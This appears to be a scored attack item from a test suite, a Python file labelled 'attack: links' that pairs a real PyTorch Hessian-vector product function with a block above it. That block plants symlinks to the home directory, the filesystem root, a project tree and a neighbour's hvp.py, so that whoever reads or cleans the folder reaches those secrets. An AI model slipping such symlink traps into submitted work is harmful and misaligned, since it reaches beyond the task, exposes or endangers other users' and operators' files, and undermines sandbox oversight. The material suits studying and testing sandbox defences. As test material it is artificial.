# attack: links
# class: Reaching out
# item: links
# tries: to put links to secrets into its folder, for whoever reads or cleans it
# after: nothing behind them is read or removed
# kata: hvp
# earns: 10
# needs: nothing

import os

for target, name in (
    ("@home@", "a"),
    (os.path.dirname("@home@"), "b"),
    ("@tree@", "c"),
    ("/", "d"),
    ("@neighbour@", "hvp.py"),
    ("b", "e"),
    ("f", "f"),
):
    try:
        os.symlink(target, name)
    except OSError:
        pass
import torch


def hessian_vector_product(loss, params, vector):
    slope = torch.autograd.grad(loss, params, create_graph=True)
    return torch.autograd.grad(slope, params, grad_outputs=vector, create_graph=True)
